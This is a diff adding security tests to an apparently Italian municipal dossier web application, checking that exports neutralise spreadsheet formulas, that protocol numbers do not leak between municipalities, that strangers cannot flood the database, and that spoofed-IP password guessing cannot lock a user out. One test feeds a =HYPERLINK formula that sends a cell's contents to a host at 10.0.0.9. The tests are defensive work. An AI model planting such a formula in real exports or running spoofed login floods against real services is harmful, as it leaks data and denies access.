@@ -104,3 +104,103 @@ async def test_a_draft_is_given_back_only_to_the_staff_member_who_typed_it(world
         await login(client, world.staff["opera"].email)
         page = await client.get(target)
         assert "Abbiamo ripreso quello che avevate scritto" in page.text
+
+
+async def test_what_people_typed_never_becomes_a_formula_in_the_exports(world: World):
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://10.0.0.9/?"&F2,"1")'
+    async with client_for(world) as stranger:
+        failed = await login(stranger, formula, "wrong-password")
+        assert failed.status_code == 401
+    dossier_id = world.dossiers["delivered"]
+    async with client_for(world) as client:
+        await login(client, world.staff["admin"].email)
+        csrf = hidden((await client.get("/pratiche")).text)
+        await client.post(
+            f"/pratiche/{dossier_id}/protocollo",
+            data={"csrf": csrf, "protocol_number": formula, "protocol_date": "", "confirm": "1"},
+        )
+        exported = (await client.get("/registro.csv")).content.decode("utf-8-sig")
+        cells = [c for row in csv.reader(io.StringIO(exported), delimiter=";") for c in row]
+        assert "'=hyperlink" in exported.lower()  # the e-mail typed, as text
+        assert not [c for c in cells if c.startswith(("=", "+", "@"))], cells
+        notice_id = "visconteo-sud-milano-2025"
+        sheet = await client.get(f"/avvisi/{notice_id}/graduatoria.xlsx")
+        assert sheet.status_code == 200
+        book = load_workbook(io.BytesIO(sheet.content))
+        kinds = {c.value: c.data_type for row in book.active.iter_rows() for c in row}
+        assert kinds.get(formula) == "s" and "f" not in kinds.values()
+        flat = await client.get(f"/avvisi/{notice_id}/graduatoria.csv")
+        assert "'=HYPERLINK" in flat.content.decode("utf-8-sig")
+
+
+async def test_a_protocol_number_used_in_another_comune_says_nothing_about_it(world: World):
+    number = "2025/0012345"
+    async with client_for(world) as opera:
+        await login(opera, world.staff["opera"].email)
+        csrf = hidden((await opera.get("/pratiche")).text)
+        first = await opera.post(
+            f"/pratiche/{world.dossiers['delivered']}/protocollo",
+            data={"csrf": csrf, "protocol_number": number, "protocol_date": ""},
+        )
+        assert first.status_code == 303
+    async with client_for(world) as binasco:
+        await login(binasco, world.staff["binasco"].email)
+        csrf = hidden((await binasco.get("/pratiche")).text)
+        answer = await binasco.post(
+            f"/pratiche/{world.dossiers['binasco']}/protocollo",
+            data={"csrf": csrf, "protocol_number": number, "protocol_date": ""},
+        )
+        assert answer.status_code == 303  # recorded, no warning naming Opera's dossier
+        pasted = await binasco.post(
+            "/protocollo", data={"csrf": csrf, "righe": f"{world.dossiers['binasco']};{number};"}
+        )
+        assert world.dossiers["delivered"] not in pasted.text
+
+
+async def test_strangers_cannot_grow_the_database_without_end(world: World, monkeypatch):
+    from storage import audit
+
+    monkeypatch.setattr(audit, "STRANGER_ROWS_PER_HOUR", 10)
+    drafts, rows = count(world, "form_drafts"), count(world, "audit_log")
+    async with client_for(world) as stranger:
+        for n in range(30):
+            await stranger.post("/pratiche/X/nota", data={f"f{j}": "Z" * 100 for j in range(50)})
+            await login(stranger, f"x{n}@example.it", "wrong")
+    assert count(world, "form_drafts") == drafts
+    assert count(world, "audit_log") - rows <= 10
+
+
+async def test_a_login_waits_its_turn_instead_of_being_locked_out_by_a_stranger(world: World):
+    """Strangers keep a password check of her e-mail in flight, from ever new addresses:
+    her own logins wait their turn and get in."""
+    import asyncio
+
+    email = world.staff["opera"].email
+    stop = asyncio.Event()
+
+    async def stranger(n: int) -> None:
+        async with client_for(world) as c:
+            k = 0
+            while not stop.is_set():
+                k += 1
+                page = await c.get("/login")
+                await c.post(
+                    "/login",
+                    data={"email": email, "password": "wrong", "csrf": hidden(page.text)},
+                    headers={"X-Forwarded-For": f"198.51.100.{(n * 50 + k) % 250}"},
+                )
+
+    tasks = [asyncio.create_task(stranger(n)) for n in range(3)]
+    await asyncio.sleep(0.2)
+    codes = []
+    for _ in range(3):
+        async with client_for(world) as her:
+            codes.append((await login(her, email)).status_code)
+    stop.set()
+    await asyncio.gather(*tasks)
+    assert codes == [303, 303, 303]
